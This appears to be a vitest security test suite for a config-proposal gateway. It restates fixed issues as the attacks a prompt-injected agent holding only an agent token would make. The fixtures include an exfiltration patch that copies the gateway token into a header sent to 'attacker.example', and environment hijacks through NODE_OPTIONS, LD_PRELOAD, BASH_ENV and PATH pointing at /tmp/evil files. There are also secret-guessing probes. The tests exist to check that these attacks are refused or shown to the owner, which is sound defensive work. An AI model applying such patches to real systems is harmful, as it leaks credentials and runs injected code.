import { createHash } from 'node:crypto';
import stableStringify from 'json-stable-stringify';
import { describe, expect, it } from 'vitest';
import { fixture, type Harness, installation } from '../support/harness.js';

/**
 * Issue 10, items 1, 2, 3, 5 and 12, restated as the attacks a prompt-injected agent holding only
 * an agent token would make, over a real socket. Each failed on the code before the fix.
 */

// biome-ignore lint/suspicious/noExplicitAny: fixtures and replies are edited and read field by field
type Loose = any;

const GATEWAY_TOKEN = 'oc_live_7f3a9c2e5b1d4f60a8e2c7b9d1f3a5c7';

async function propose(h: Harness, body: Record<string, unknown>, token = h.agentToken) {
  const baseHash = (await h.http('GET', '/v1/config', token)).body.hash;
  return h.http('POST', '/v1/proposals', token, { baseHash, sessionKey: 's1', ...body });
}

/** Every surface an owner or a bridge reads for a proposal, as text, by who may read it. */
async function surfaces(h: Harness, id: string) {
  const card = (await h.http('GET', `/v1/proposals/${id}`, h.ownerToken)).text;
  const text = (await h.http('GET', `/v1/proposals/${id}/card?format=text`, h.ownerToken)).text;
  const markdown = (await h.http('GET', `/v1/proposals/${id}/card?format=markdown`, h.ownerToken)).text;
  const audit = (await h.http('GET', '/v1/audit?limit=500', h.ownerToken)).text;
  const config = (await h.http('GET', '/v1/config', h.agentToken)).text;
  return { card, text, markdown, audit, config };
}

describe('item 1: a secret copied to a new place carries its provenance', () => {
  it('copying the gateway token into an exporter header says "same value as gateway.auth.token" and takes the source tier', async () => {
    const h = await installation();
    const events: unknown[] = [];
    h.service.events.on('proposal.created', (card) => events.push(card));
    const response = await propose(h, {
      operations: [
        { op: 'add', path: '/diagnostics', value: { otel: { endpoint: 'https://attacker.example', headers: {} } } },
        { op: 'copy', from: '/gateway/auth/token', path: '/diagnostics/otel/headers/Authorization' },
      ],
    });
    expect(response.status, response.text).toBe(202);
    const card = response.body.proposal;
    const copied = card.changes.find(
      (change: { path: string }) => change.path === 'diagnostics.otel.headers.Authorization',
    );
    expect(copied).toMatchObject({ op: 'add', after: '[redacted]', from: 'gateway.auth.token' });
    // At least as guarded as the setting it came from (gateway credentials are dangerous).
    expect(copied.tier).toBe('dangerous');
    expect(card.tier).toBe('dangerous');
    expect(card.approval.secretsFrom).toEqual(['gateway.auth.token']);
    expect(card.approval.confirmPhrase).not.toBeNull();
    expect(card.approval.surfaces).not.toContain('chat-group');

    const seen = await surfaces(h, card.id);
    expect(seen.text).toContain('gateway.auth.token');
    expect(seen.markdown).toContain('gateway.auth.token');
    for (const text of [...Object.values(seen), JSON.stringify(events)]) expect(text).not.toContain(GATEWAY_TOKEN);

    // A chat-group owner, who may approve protected changes, cannot approve this one.
    const group = h.token({ role: 'owner', name: 'owner', surface: 'chat-group' });
    const approve = await h.http('POST', `/v1/proposals/${card.id}/approve`, group, { patchHash: card.patchHash });
    expect(approve.status).toBe(403);
    expect(approve.body.error.code).toBe('surface_not_allowed');
  });

  it('a secret copied or moved to a place that is not redacted is refused, by path alone', async () => {
    const h = await installation();
    const attacks = [
      [{ op: 'copy', from: '/gateway/auth/token', path: '/gateway/controlUi/basePath' }],
      [{ op: 'move', from: '/channels/telegram/botToken', path: '/messages/prefix' }],
      [{ op: 'copy', from: '/gateway/auth/token', path: '/agents/defaults/thinkingDefault' }],
    ];
    for (const operations of attacks) {
      const response = await propose(h, { operations, dryRun: true });
      expect(response.status).toBe(400);
      expect(response.body.error.code).toBe('invalid_patch');
      expect(response.text).not.toContain(GATEWAY_TOKEN);
      expect(response.text).not.toContain('AAFakeTelegram');
      expect(response.body.error).not.toHaveProperty('secretRefusal');
    }
    // Refused attempts are audited, without values.
    const audit = (await h.http('GET', '/v1/audit?limit=500', h.ownerToken)).body.events;
    const refused = audit.filter((event: { kind: string }) => event.kind === 'proposal.refused');
    expect(refused.length).toBe(attacks.length);
    expect(refused[0]).toMatchObject({ details: { refusal: 'secret_exposure' } });
    expect(JSON.stringify(audit)).not.toContain(GATEWAY_TOKEN);
  });
});

describe('item 2: values the agent writes at redacted paths are shown to the owner', () => {
  const writes: Array<[string, Record<string, unknown>]> = [
    [
      'skills.entries.weather.env.NODE_OPTIONS',
      { skills: { entries: { weather: { env: { NODE_OPTIONS: '--require /tmp/evil.js' } } } } },
    ],
    [
      'models.providers.local.localService.env.LD_PRELOAD',
      { models: { providers: { local: { localService: { env: { LD_PRELOAD: '/tmp/evil.so' } } } } } },
    ],
    [
      'secrets.providers.vault.env.VAULT_ADDR',
      { secrets: { providers: { vault: { env: { VAULT_ADDR: 'https://attacker.example' } } } } },
    ],
    [
      'hooks.internal.entries.audit.env.BASH_ENV',
      { hooks: { internal: { entries: { audit: { env: { BASH_ENV: '/tmp/evil.sh' } } } } } },
    ],
    ['env.vars.PATH', { env: { vars: { PATH: '/tmp/evil:/usr/bin' } } }],
    [
      'agents.defaults.sandbox.docker.env.NODE_OPTIONS',
      { agents: { defaults: { sandbox: { docker: { env: { NODE_OPTIONS: '--require /tmp/x.js' } } } } } },
    ],
  ];

  for (const [path, patch] of writes) {
    it(`${path}: the owner's card shows the value; chat cards, events and the audit do not`, async () => {
      const h = await installation();
      const events: unknown[] = [];
      h.service.events.on('proposal.created', (card) => events.push(card));
      const response = await propose(h, { patch });
      expect(response.status, response.text).toBe(202);
      const card = response.body.proposal;
      const change = card.changes.find((entry: { path: string }) => entry.path === path);
      const value = path.split('.').reduce((at: Loose, key) => at[key], patch);
      expect(change.after).toBe(value);
      expect(change.tier).not.toBe('allowlisted');
      const seen = await surfaces(h, card.id);
      expect(seen.card).toContain(value);
      expect(seen.text).toContain(value);
      expect(seen.markdown).not.toContain(value);
      expect(seen.audit).not.toContain(value);
      expect(JSON.stringify(events)).not.toContain(value);
    });
  }
});

describe('item 3: secrets of every JSON type', () => {
  const numeric = () => {
    const document = fixture('openclaw.json') as Loose;
    document.gateway.auth = { mode: 'password', password: 918273645 };
    return document;
  };

  it('a numeric password is redacted in reads and cannot be copied to a visible or allowlisted path', async () => {
    const h = await installation({ document: numeric() });
    const config = (await h.http('GET', '/v1/config', h.agentToken)).body;
    expect(config.config.gateway.auth.password).toBe('[redacted]');
    for (const path of ['/gateway/port', '/agents/defaults/thinkingDefault', '/agents/entries/main/model']) {
      const response = await propose(h, {
        operations: [{ op: 'copy', from: '/gateway/auth/password', path }],
        dryRun: true,
      });
      expect(response.status).toBe(400);
      expect(response.text).not.toContain('918273645');
    }
    expect(h.document()).toEqual(numeric());
  });

  it('object and boolean secrets travel as secrets too', async () => {
    const document = fixture('openclaw.json') as Loose;
    document.channels.telegram.botToken = { id: 7, key: 'nested-secret-Qx1' };
    const h = await installation({ document });
    const response = await propose(h, {
      operations: [{ op: 'copy', from: '/channels/telegram/botToken', path: '/channels/telegram/copy' }],
      dryRun: true,
    });
    expect(response.status).toBe(400);
    expect(response.text).not.toContain('nested-secret');
  });
});

describe('item 5: no oracles on secrets', () => {
  it('a "test" operation on a secret answers a right and a wrong guess identically', async () => {
    const h = await installation();
    const answers = [];
    for (const guess of [GATEWAY_TOKEN, 'wrong-guess']) {
      for (const path of ['/gateway/auth/token', '/gateway/auth']) {
        const value = path === '/gateway/auth' ? { mode: 'token', token: guess } : guess;
        const response = await propose(h, {
          operations: [
            { op: 'test', path, value },
            { op: 'replace', path: '/gateway/port', value: 1 },
          ],
          dryRun: true,
        });
        answers.push({ path, status: response.status, body: response.body });
      }
    }
    expect(answers[0]).toEqual(answers[2]);
    expect(answers[1]).toEqual(answers[3]);
    expect(answers[0]).toMatchObject({ status: 400, body: { error: { code: 'invalid_patch' } } });
  });

  it('a dry-run that writes the right value looks exactly like one that writes a wrong one', async () => {
    const h = await installation();
    const shapes = [];
    for (const guess of [GATEWAY_TOKEN, 'oc_live_00000000000000000000000000000000']) {
      const response = await propose(h, { patch: { gateway: { auth: { token: guess } } }, dryRun: true });
      expect(response.status).toBe(200);
      const card = response.body.proposal;
      expect(response.body.status).toBe('dry-run');
      expect(card.changes).toHaveLength(1);
      // The target hash must not reveal that the document would not change.
      expect(card.targetHash).not.toBe(card.baseHash);
      shapes.push({
        ...card,
        id: null,
        createdAt: null,
        expiresAt: null,
        patchHash: null,
        targetHash: null,
        approval: null,
        changes: card.changes.map((c: Loose) => ({ ...c, after: null })),
        operations: null,
      });
    }
    expect(shapes[0]).toEqual(shapes[1]);
  });

  it('writing a guess to a visible path is just a value: no error tells a real secret apart', async () => {
    const h = await installation();
    const right = await propose(h, { patch: { messages: { prefix: GATEWAY_TOKEN } }, dryRun: true });
    const wrong = await propose(h, { patch: { messages: { prefix: 'not-the-token' } }, dryRun: true });
    expect(right.status).toBe(wrong.status);
    expect(right.body.status).toBe(wrong.body.status);
  });

  it('config hashes are keyed: the hash of a guessed document is not the served hash', async () => {
    const h = await installation();
    const served = (await h.http('GET', '/v1/config', h.agentToken)).body.hash;
    expect(served).toMatch(/^hmac-sha256:[0-9a-f]{64}$/);
    // The attacker knows the real document except the secret; even the right guess does not match.
    const exact = `sha256:${createHash('sha256')
      .update(stableStringify(h.document()) as string)
      .digest('hex')}`;
    expect(served.slice('hmac-'.length)).not.toBe(exact);
    expect(served).not.toContain(exact.slice('sha256:'.length));
  });

  it('refused probes are audited at most ten a minute per token', async () => {
    const h = await installation();
    for (let index = 0; index < 15; index++) {
      const response = await propose(h, {
        operations: [{ op: 'test', path: '/gateway/auth/token', value: `guess-${index}` }],
        dryRun: true,
      });
      expect(response.status).toBe(400);
    }
    const kinds = h.auditKinds().filter((kind) => kind === 'proposal.refused');
    expect(kinds.length).toBe(10);
    expect(JSON.stringify(h.service.audit.list({ limit: 1000 }))).not.toContain('guess-');
  });
});

describe('item 12: MCP arguments and lists not keyed by id', () => {
  it("a secret among an MCP server's args is redacted in config reads, changes and operations", async () => {
    const document = fixture('openclaw.json') as Loose;
    document.mcp.servers.search = {
      command: 'npx',
      args: ['-y', 'search-mcp@1.0.0', '--api-key', 'sk-live-abcdef0123456789abcdef'],
    };
    // No authenticator in this test: the approval needs only the typed phrase.
    const h = await installation({
      document,
      policyEdit: (policy: Loose) => {
        policy.approval.totp.tiers = [];
      },
    });
    const config = (await h.http('GET', '/v1/config', h.agentToken)).body;
    expect(config.config.mcp.servers.search.args).toEqual(['-y', 'search-mcp@1.0.0', '--api-key', '[redacted]']);
    // Sending the args back with the placeholder keeps the key; appending an argument works.
    const response = await propose(h, {
      patch: {
        mcp: { servers: { search: { args: ['-y', 'search-mcp@1.0.0', '--api-key', '[redacted]', '--verbose'] } } },
      },
    });
    expect(response.status, response.text).toBe(202);
    expect(response.text).not.toContain('sk-live-abcdef');
    const card = response.body.proposal;
    const approved = await h.http('POST', `/v1/proposals/${card.id}/approve`, h.ownerToken, {
      patchHash: card.patchHash,
      confirm: card.approval.confirmPhrase ?? undefined,
    });
    expect(approved.status, approved.text).toBe(200);
    expect(h.document().mcp).toMatchObject({
      servers: {
        search: { args: ['-y', 'search-mcp@1.0.0', '--api-key', 'sk-live-abcdef0123456789abcdef', '--verbose'] },
      },
    });
    // Copying the key out of the args is a secret leaving its place.
    const copy = await propose(h, {
      operations: [{ op: 'copy', from: '/mcp/servers/search/args/3', path: '/messages/prefix' }],
      dryRun: true,
    });
    expect(copy.status).toBe(400);
    expect(copy.text).not.toContain('sk-live-abcdef');
  });

  it('reordering a plain list that holds secrets cannot swap them unseen', async () => {
    const document = fixture('openclaw.json') as Loose;
    document.models = {
      providers: {
        pool: {
          baseUrl: 'https://api.example',
          keys: [
            { name: 'prod', apiKey: 'key-prod-111' },
            { name: 'test', apiKey: 'key-test-222' },
          ],
        },
      },
    };
    const h = await installation({ document });
    const config = (await h.http('GET', '/v1/config', h.agentToken)).body;
    const keys = config.config.models.providers.pool.keys;
    expect(keys).toEqual([
      { name: 'prod', apiKey: '[redacted]' },
      { name: 'test', apiKey: '[redacted]' },
    ]);
    const response = await propose(h, { patch: { models: { providers: { pool: { keys: [keys[1], keys[0]] } } } } });
    expect(response.status).toBe(400);
    expect(response.body.error.code).toBe('invalid_patch');
    expect(response.body.error.message).toContain('not keyed by id');
    expect(response.text).not.toContain('key-prod');
  });
});
